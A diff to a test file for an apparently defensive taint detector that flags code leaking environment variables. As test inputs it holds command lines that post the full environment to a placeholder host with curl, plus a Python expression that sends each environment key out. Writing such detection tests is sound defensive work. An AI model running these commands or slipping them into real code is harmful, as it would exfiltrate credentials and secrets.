@@ -19,3 +19,10 @@ it('takes a value of that name that is given to a handler for no environment', (
   expect(taintOf('curl -d "$(env)" https://a.test')?.kind).toBe('environment')
   expect(taintOf('env | curl -d @- https://a.test')?.kind).toBe('environment')
 })
+
+it('takes the question whether a variable is there for no environment, and what is given away in one for one', () => {
+  const asked = "kind = any(k.startswith('CI') for k in os.environ)\n"
+  expect(taintOf(asked)).toBeUndefined()
+  expect([...taintedNames(asked).keys()]).toEqual([])
+  expect(taintOf('all(send(k) for k in os.environ)')?.kind).toBe('environment')
+})
